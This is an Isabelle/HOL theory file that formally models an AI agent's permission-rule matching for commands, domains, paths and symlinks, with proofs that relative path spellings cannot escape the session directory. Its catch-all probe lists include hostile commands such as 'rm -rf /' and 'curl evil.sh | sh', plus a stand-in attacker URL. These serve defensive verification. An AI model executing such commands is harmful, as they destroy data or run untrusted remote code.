(* ===== verification/Pattern_Match.thy ===== *)
theory Pattern_Match
  imports Host
begin

text \<open>
  How one rule matches one access (\<open>permission/policy.rs\<close>): command prefixes and freeform globs,
  domains, the spellings of a path that a path glob is tried on, the followed symlink target, and
  the probes that recognise a rule opening a whole dimension.

  The spellings of a path that path globs are tried on: a workspace-relative spelling is offered
  only for a path that really lies under the session directory.
\<close>

section \<open>Pattern match\<close>

datatype match_context = PathContext | Freeform

definition glob_matches :: "host \<Rightarrow> string \<Rightarrow> match_context \<Rightarrow> string option \<Rightarrow> bool" where
  "glob_matches h t ctx pat =
     (case pat of None \<Rightarrow> False | Some p \<Rightarrow> h_glob_match h (ctx = PathContext) p t)"

subsection \<open>Domains\<close>

definition normalize_domain :: "host \<Rightarrow> string \<Rightarrow> string" where
  "normalize_domain h raw =
     (let s = trim_end_matches CHR ''.'' (trim_end_matches CHR ''/'' (trim raw)) in
      h_lowercase h (str_or (strip_prefix s ''www.'') s))"

definition domain_matches :: "host \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "domain_matches h pattern url =
     (case h_url_host h url of
        None \<Rightarrow> False
      | Some hst \<Rightarrow>
          let domain = normalize_domain h hst; p = normalize_domain h pattern in
          domain = p \<or> ends_with domain (''.'' @ p))"

subsection \<open>Commands\<close>

definition matches_command_prefix :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "matches_command_prefix cmd pattern \<longleftrightarrow>
     cmd = pattern \<or> starts_with cmd pattern \<and> get cmd (length pattern) = Some CHR '' ''"

definition bash_command_matches_pattern :: "host \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> bool" where
  "bash_command_matches_pattern h command pattern precompiled =
     (let command = trim_start command; pattern = trim pattern in
      if pattern = [] then False
      else if pattern = ''*'' then True
      else if matches_command_prefix command pattern then True
      else case precompiled of
          Some p \<Rightarrow> glob_matches h command Freeform (Some p)
        | None \<Rightarrow>
            (case glob_new h pattern of
               Some p \<Rightarrow> glob_matches h command Freeform (Some p)
             | None \<Rightarrow> False))"

definition bash_allow_pattern_matches :: "host \<Rightarrow> string \<Rightarrow> permission_rule \<Rightarrow> string option \<Rightarrow> bool" where
  "bash_allow_pattern_matches h cmd rule matcher =
     (case pr_pattern rule of
        None \<Rightarrow> True
      | Some p \<Rightarrow> if p = ''*'' then True else bash_command_matches_pattern h cmd p matcher)"

definition bash_pattern_matches_command :: "host \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "bash_pattern_matches_command h pattern command = bash_command_matches_pattern h command pattern None"

definition bash_pattern_is_broad :: "string \<Rightarrow> bool" where
  "bash_pattern_is_broad pattern =
     (let p = trim pattern in
      if p = [] then False else p = ''*'' \<or> \<not> has_whitespace p)"

subsection \<open>Path spellings\<close>

definition absolute_normalized_path :: "string \<Rightarrow> string option \<Rightarrow> string" where
  "absolute_normalized_path path cwd =
     (if is_tilde_path path then path
      else normalize_lexically
        (case cwd of
           Some c \<Rightarrow> if \<not> path_is_absolute path then path_join c path else path
         | None \<Rightarrow> path))"

definition relative_forms :: "string \<Rightarrow> string list" where
  "relative_forms rel_s =
     (if rel_s = [] \<or> rel_s = ''.'' then [''.'', ''./''] else [''./'' @ rel_s, rel_s])"

definition path_match_forms :: "string \<Rightarrow> string option \<Rightarrow> string list" where
  "path_match_forms path cwd =
     (let abs = absolute_normalized_path path cwd in
      path_match_string abs #
      (case cwd of
         Some c \<Rightarrow>
           (case path_strip_prefix abs (normalize_lexically c) of
              Some rel \<Rightarrow> relative_forms (path_match_string rel)
            | None \<Rightarrow> [])
       | None \<Rightarrow>
           if \<not> path_is_absolute abs \<and> \<not> path_has_parent_dir abs \<and> \<not> is_tilde_path abs then
             (let lex_s = path_match_string abs in
              if lex_s \<noteq> ''.'' \<and> lex_s \<noteq> [] then [''./'' @ lex_s] else [])
           else []))"

definition path_context_matches :: "host \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> string option \<Rightarrow> bool" where
  "path_context_matches h path matcher cwd =
     list_ex (\<lambda>t. glob_matches h t PathContext matcher) (path_match_forms path cwd)"

subsection \<open>Rules\<close>

fun tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches a AnyTool = True"
| "tool_filter_matches a BashTool = (case a of Bash _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a EditTool = (case a of Edit _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a ReadTool = (case a of Read _ \<Rightarrow> True | Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a GrepTool = (case a of Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a McpTool = (case a of MCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a WebFetchTool = (case a of WebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a WebSearchTool = (case a of WebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a AgentMessageTool = (case a of AgentMessage _ \<Rightarrow> True | _ \<Rightarrow> False)"

fun access_pattern_matches ::
  "host \<Rightarrow> access_kind \<Rightarrow> string \<Rightarrow> pattern_mode \<Rightarrow> string option \<Rightarrow> string option \<Rightarrow> bool"
where
  "access_pattern_matches h (Bash cmd) pattern mode m cwd =
     (let c = trim_start cmd in starts_with c pattern \<or> glob_matches h c Freeform m)"
| "access_pattern_matches h (Edit path) pattern mode m cwd = path_context_matches h path m cwd"
| "access_pattern_matches h (Read path) pattern mode m cwd =
     (case path of Some p \<Rightarrow> path_context_matches h p m cwd | None \<Rightarrow> False)"
| "access_pattern_matches h (Grep path g) pattern mode m cwd =
     (case path of Some p \<Rightarrow> path_context_matches h p m cwd | None \<Rightarrow> False)"
| "access_pattern_matches h (MCPTool name i) pattern mode m cwd = glob_matches h name Freeform m"
| "access_pattern_matches h (WebFetch url) pattern mode m cwd =
     (case mode of
        DomainMode \<Rightarrow> domain_matches h pattern url
      | GlobMode \<Rightarrow> glob_matches h url Freeform m)"
| "access_pattern_matches h (WebSearch query) pattern mode m cwd =
     (glob_matches h query Freeform m \<or> starts_with query pattern)"
| "access_pattern_matches h (AgentMessage sid) pattern mode m cwd =
     (glob_matches h sid Freeform m \<or> starts_with sid pattern)"

definition pattern_matches ::
  "host \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> string option \<Rightarrow> string option \<Rightarrow> bool"
where
  "pattern_matches h a rule m cwd =
     (case pr_pattern rule of
        None \<Rightarrow> True
      | Some p \<Rightarrow> if p = ''*'' then True else access_pattern_matches h a p (pr_mode rule) m cwd)"

text \<open>The matcher \<open>CompiledPolicy::new\<close> compiles for a rule.\<close>

definition rule_matcher :: "host \<Rightarrow> permission_rule \<Rightarrow> string option" where
  "rule_matcher h rule =
     (case pr_pattern rule of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p = ''*'' then None else glob_new h p)"

subsection \<open>Symlinks\<close>

fun native_file_path :: "access_kind \<Rightarrow> string option" where
  "native_file_path (Edit p) = Some p"
| "native_file_path (Read (Some p)) = Some p"
| "native_file_path (Grep (Some p) g) = Some p"
| "native_file_path _ = None"

fun access_with_path :: "access_kind \<Rightarrow> string \<Rightarrow> access_kind" where
  "access_with_path (Edit _) p = Edit p"
| "access_with_path (Read _) p = Read (Some p)"
| "access_with_path (Grep _ g) p = Grep (Some p) g"
| "access_with_path a p = a"

definition raw_absolute_tool_path :: "string \<Rightarrow> string option \<Rightarrow> string option" where
  "raw_absolute_tool_path path cwd =
     (if is_tilde_path path then None
      else let joined = (case cwd of
               Some c \<Rightarrow> if \<not> path_is_absolute path then path_join c path else path
             | None \<Rightarrow> path) in
        if path_is_absolute joined then Some (path_match_string joined) else None)"

fun prefix_is_symlink :: "host \<Rightarrow> component list \<Rightarrow> component list \<Rightarrow> bool" where
  "prefix_is_symlink h done [] = False"
| "prefix_is_symlink h done (c # cs) =
     (h_metadata h (components_path (done @ [c])) = MetaSymlink \<or> prefix_is_symlink h (done @ [c]) cs)"

definition path_has_symlink :: "host \<Rightarrow> string \<Rightarrow> bool" where
  "path_has_symlink h p =
     (if \<not> path_is_absolute p then False else prefix_is_symlink h [] (path_components p))"

definition MAX_SYMLINK_DEPTH :: nat where "MAX_SYMLINK_DEPTH = 40"

text \<open>\<open>walk\<close> of \<open>resolve_following_symlinks\<close>; the fuel is \<open>MAX_SYMLINK_DEPTH + 1 - depth\<close>.\<close>

fun symlink_walk :: "host \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string option" where
  "symlink_walk h 0 path = None"
| "symlink_walk h (Suc n) path =
     (case h_canonicalize h path of
        Some canonical \<Rightarrow> Some canonical
      | None \<Rightarrow>
          Option.bind (path_parent path) (\<lambda>parent.
          Option.bind (path_file_name path) (\<lambda>file_name.
          Option.bind (symlink_walk h n parent) (\<lambda>resolved_parent.
            let candidate = path_join resolved_parent file_name in
            case h_metadata h candidate of
              MetaError \<Rightarrow> None
            | MetaSymlink \<Rightarrow>
                Option.bind (h_read_link h candidate) (\<lambda>target.
                  symlink_walk h n
                    (if path_is_absolute target then target else path_join resolved_parent target))
            | _ \<Rightarrow> Some candidate))))"

definition resolve_following_symlinks :: "host \<Rightarrow> string \<Rightarrow> string option" where
  "resolve_following_symlinks h path = symlink_walk h (MAX_SYMLINK_DEPTH + 1) path"

definition resolve_symlink_target :: "host \<Rightarrow> string \<Rightarrow> string option" where
  "resolve_symlink_target h p =
     (if \<not> path_is_absolute p then None
      else map_option (\<lambda>r. path_match_string (normalize_lexically r)) (resolve_following_symlinks h p))"

datatype symlink_follow = NoFollow | FollowTarget string | Unresolvable

definition follow_absolute_symlink :: "host \<Rightarrow> string \<Rightarrow> string \<Rightarrow> symlink_follow" where
  "follow_absolute_symlink h raw lexical =
     (case resolve_symlink_target h raw of
        Some resolved \<Rightarrow> if resolved \<noteq> lexical then FollowTarget resolved else NoFollow
      | None \<Rightarrow> if path_has_symlink h raw then Unresolvable else NoFollow)"

subsection \<open>Catch-all rules\<close>

definition bash_probes :: "access_kind list" where
  "bash_probes = map Bash [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "access_kind list" where
  "mcp_probes =
     map (\<lambda>n. MCPTool n JNull)
       [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes =
     map WebFetch [''https://evil.example.com/x'', ''http://10.0.0.1/admin'',
       ''https://api.github.com/repos'', ''ftp://files.example.org/p'']"

definition agent_message_probes :: "access_kind list" where
  "agent_message_probes = map AgentMessage [''sub-1'', ''agent-alpha'', ''019ffeed'', ''worker_4'']"

definition opens_all :: "host \<Rightarrow> permission_rule \<Rightarrow> access_kind list \<Rightarrow> bool" where
  "opens_all h rule probes = list_all (\<lambda>a. pattern_matches h a rule (rule_matcher h rule) None) probes"

definition rule_is_catchall :: "host \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall h rule =
     (case pr_tool rule of
        BashTool \<Rightarrow> opens_all h rule bash_probes
      | McpTool \<Rightarrow> opens_all h rule mcp_probes
      | WebFetchTool \<Rightarrow> opens_all h rule webfetch_probes
      | AgentMessageTool \<Rightarrow> opens_all h rule agent_message_probes
      | AnyTool \<Rightarrow> opens_all h rule bash_probes \<or> opens_all h rule mcp_probes
                  \<or> opens_all h rule webfetch_probes \<or> opens_all h rule agent_message_probes
      | _ \<Rightarrow> False)"

definition bash_glob_is_catchall :: "host \<Rightarrow> string \<Rightarrow> bool" where
  "bash_glob_is_catchall h pattern =
     list_all (\<lambda>a. case a of Bash cmd \<Rightarrow> bash_pattern_matches_command h pattern cmd | _ \<Rightarrow> False) bash_probes"

section \<open>Path forms\<close>

lemma set_join: "set (join sep ws) \<subseteq> set sep \<union> (\<Union>w \<in> set ws. set w)"
  by (induction sep ws rule: join.induct) auto

lemma set_join_words: "w \<in> set ws \<Longrightarrow> set w \<subseteq> set (join sep ws)"
  by (induction sep ws rule: join.induct) auto

lemma path_match_string_id: "CHR 0x5C \<notin> set s \<Longrightarrow> path_match_string s = s"
  by (auto simp: path_match_string_def replace_char_def intro: map_idI)

lemma map_Normal_eq [simp]: "map Normal xs = map Normal ys \<longleftrightarrow> xs = ys"
  by (simp add: inj_map_eq_map inj_def)

lemma components_path_normals: "components_path (map Normal ks) = join ''/'' ks"
  by (cases ks) (simp_all add: components_path_def comp_def)

lemma components_path_rooted: "components_path (RootDir # map Normal ks) = ''/'' @ join ''/'' ks"
  by (simp add: components_path_def comp_def)

lemma path_components_normals:
  "list_all (\<lambda>n. wf_component (Normal n)) ks \<Longrightarrow> ks \<noteq> [] \<Longrightarrow> path_components (join ''/'' ks) = map Normal ks"
  using path_components_relative[of "map Normal ks"] by (simp add: list_all_iff comp_def)

lemma path_components_dot_slash:
  assumes "list_all (\<lambda>n. wf_component (Normal n)) ks" "ks \<noteq> []"
  shows "path_components (''./'' @ join ''/'' ks) = CurDir # map Normal ks"
proof -
  have ns: "list_all (\<lambda>w. list_all (\<lambda>c. \<not> is_sep c) w) ks"
    using assms(1) component_str_no_sep[of "Normal _"] by (fastforce simp: list_all_iff)
  have "split_on is_sep (''./'' @ join ''/'' ks) = ''.'' # ks"
    using split_on_join[OF assms(2) ns] by (simp add: is_sep_def)
  moreover have "concat (map segment_components ks) = map Normal ks"
    using segments_of_components[of "map Normal ks"] assms(1) by (simp add: list_all_iff comp_def)
  ultimately show ?thesis by (simp add: path_components_def segment_components_def)
qed

text \<open>An absolute form is rooted and free of dot components.\<close>

lemma absolute_form_components:
  assumes "path_is_absolute cwd" and "\<not> is_tilde_path path"
  obtains ns where "path_components (absolute_normalized_path path (Some cwd)) = RootDir # map Normal ns"
    "absolute_normalized_path path (Some cwd) = ''/'' @ join ''/'' ns"
    "list_all (\<lambda>n. wf_component (Normal n)) ns"
proof -
  let ?abs = "absolute_normalized_path path (Some cwd)"
  have "path_is_absolute (path_join cwd path)"
    using assms(1) by (auto simp: path_join_def path_is_absolute_def starts_with_iff)
  then have "\<exists>q. path_is_absolute q \<and> ?abs = normalize_lexically q"
    using assms(2) by (auto simp: absolute_normalized_path_def)
  then obtain q where q: "path_is_absolute q" "?abs = normalize_lexically q" by blast
  obtain ns where ns: "path_components ?abs = RootDir # map Normal ns"
    "list_all (\<lambda>n. wf_component (Normal n)) ns"
    "normalize_components (path_components q) = RootDir # map Normal ns"
    using normalize_lexically_absolute[OF q(1)] unfolding q(2) by blast
  have "?abs = ''/'' @ join ''/'' ns"
    using ns(3) by (simp add: q(2) normalize_lexically_def components_path_rooted)
  with ns that show ?thesis by blast
qed

text \<open>What stripping the session directory leaves.\<close>

lemma stripped_form:
  assumes abs: "path_components p = RootDir # map Normal ns" "p = ''/'' @ join ''/'' ns"
      "list_all (\<lambda>n. wf_component (Normal n)) ns"
    and cwd: "path_is_absolute cwd" and strip: "path_strip_prefix p (normalize_lexically cwd) = Some rel"
    and clean: "CHR 0x5C \<notin> set p"
  obtains ks where "rel = join ''/'' ks" "list_all (\<lambda>n. wf_component (Normal n)) ks" "CHR 0x5C \<notin> set rel"
    "path_components p = path_components (normalize_lexically cwd) @ map Normal ks"
proof -
  obtain ms where ms: "path_components (normalize_lexically cwd) = RootDir # map Normal ms"
    using normalize_lexically_absolute[OF cwd] by blast
  from strip obtain r where r: "path_components p = path_components (normalize_lexically cwd) @ r"
    "rel = components_path r"
    by (auto simp: path_strip_prefix_def strip_list_prefix_Some_iff)
  obtain ks where ks: "ns = ms @ ks" "r = map Normal ks"
    using r(1) abs(1) ms by (auto simp: map_eq_append_conv)
  have rel: "rel = join ''/'' ks" using r(2) ks(2) by (simp add: components_path_normals)
  have "CHR 0x5C \<notin> set rel"
  proof
    assume "CHR 0x5C \<in> set rel"
    then obtain w where "w \<in> set ks" "CHR 0x5C \<in> set w" using set_join[of "''/''" ks] rel by auto
    then show False using set_join_words[of w ns "''/''"] ks(1) abs(2) clean by auto
  qed
  moreover have "list_all (\<lambda>n. wf_component (Normal n)) ks" using abs(3) ks(1) by simp
  ultimately show ?thesis using that rel r(1) ks(2) by simp
qed

text \<open>The relative spellings of the rest name its components, up to a leading dot.\<close>

lemma relative_form_components:
  assumes f: "f \<in> set (relative_forms (join ''/'' ks))" and wf: "list_all (\<lambda>n. wf_component (Normal n)) ks"
  shows "\<not> path_has_parent_dir f \<and> filter (\<lambda>c. c \<noteq> CurDir) (path_components f) = map Normal ks"
proof (cases "ks = []")
  case True
  then have "f = ''.'' \<or> f = ''./''" using f by (auto simp: relative_forms_def)
  then show ?thesis using True
    by (auto simp: path_has_parent_dir_def path_components_def is_sep_def segment_components_def)
next
  case False
  have "join ''/'' ks \<noteq> [] \<and> join ''/'' ks \<noteq> ''.''"
    using path_components_normals[OF wf False] False
    by (auto simp: path_components_def is_sep_def segment_components_def)
  then have "f = ''./'' @ join ''/'' ks \<or> f = join ''/'' ks" using f by (auto simp: relative_forms_def)
  then have "path_components f = CurDir # map Normal ks \<or> path_components f = map Normal ks"
    using path_components_normals[OF wf False] path_components_dot_slash[OF wf False] by auto
  moreover have "filter (\<lambda>c. c \<noteq> CurDir) (map Normal ks) = map Normal ks" by (induction ks) simp_all
  ultimately show ?thesis by (auto simp: path_has_parent_dir_def list_ex_iff)
qed

text \<open>Under an absolute session directory, a path glob sees a relative spelling of a path only
  when the normalised path lies inside that directory, every such spelling names exactly the
  components below it, and no spelling contains \<open>..\<close>: a rule like \<open>Read(./**)\<close> cannot be
  satisfied by traversal or by a home path.\<close>

theorem path_forms_confined:
  assumes "path_is_absolute cwd" and "\<not> is_tilde_path path"
    and "CHR 0x5C \<notin> set (absolute_normalized_path path (Some cwd))"
    and "f \<in> set (path_match_forms path (Some cwd))"
  shows "\<not> path_has_parent_dir f
    \<and> (f = absolute_normalized_path path (Some cwd)
       \<or> (\<exists>ks. path_components (absolute_normalized_path path (Some cwd)) =
               path_components (normalize_lexically cwd) @ map Normal ks
             \<and> filter (\<lambda>c. c \<noteq> CurDir) (path_components f) = map Normal ks))"
proof -
  let ?abs = "absolute_normalized_path path (Some cwd)"
  obtain ns where ns: "path_components ?abs = RootDir # map Normal ns" "?abs = ''/'' @ join ''/'' ns"
    "list_all (\<lambda>n. wf_component (Normal n)) ns"
    by (rule absolute_form_components[OF assms(1,2)])
  have first: "path_match_string ?abs = ?abs" by (rule path_match_string_id) (rule assms(3))
  have self: "\<not> path_has_parent_dir ?abs" using ns(1) by (auto simp: path_has_parent_dir_def list_ex_iff)
  show ?thesis
  proof (cases "path_strip_prefix ?abs (normalize_lexically cwd)")
    case None
    with assms(4) first have "f = ?abs" by (simp add: path_match_forms_def Let_def)
    with self show ?thesis by simp
  next
    case (Some rel)
    from stripped_form[OF ns assms(1) Some assms(3)] obtain ks where
      ks: "rel = join ''/'' ks" "list_all (\<lambda>n. wf_component (Normal n)) ks" "CHR 0x5C \<notin> set rel"
      "path_components ?abs = path_components (normalize_lexically cwd) @ map Normal ks" .
    with assms(4) Some first path_match_string_id[OF ks(3)] have "f = ?abs \<or> f \<in> set (relative_forms rel)"
      by (simp add: path_match_forms_def Let_def)
    with self ks(4) relative_form_components[of f ks] ks(1,2) show ?thesis by blast
  qed
qed

lemma path_forms_confined_witness:
  "path_match_forms ''src/../lib/x'' (Some ''/w'') = [''/w/lib/x'', ''./lib/x'', ''lib/x'']
   \<and> \<not> path_has_parent_dir ''./lib/x''"
proof -
  have e: "path_match_forms ''src/../lib/x'' (Some ''/w'') = [''/w/lib/x'', ''./lib/x'', ''lib/x'']"
    by code_simp
  have "path_is_absolute ''/w''" "\<not> is_tilde_path ''src/../lib/x''"
    "CHR 0x5C \<notin> set (absolute_normalized_path ''src/../lib/x'' (Some ''/w''))" by code_simp+
  from path_forms_confined[OF this, of "''./lib/x''"] e show ?thesis by simp
qed

text \<open>
  The hypothesis about backslashes is needed: on Unix a backslash is an ordinary character of a
  file name, but the spelling handed to the glob turns it into a separator after normalisation,
  so a parent component can reappear.
\<close>

lemma backslash_reintroduces_parent:
  "''./a/../../b'' \<in> set (path_match_forms [CHR ''a'', CHR 0x5C, CHR ''.'', CHR ''.'', CHR 0x5C,
      CHR ''.'', CHR ''.'', CHR 0x5C, CHR ''b''] (Some ''/w''))
   \<and> path_has_parent_dir ''./a/../../b''"
  by code_simp

end
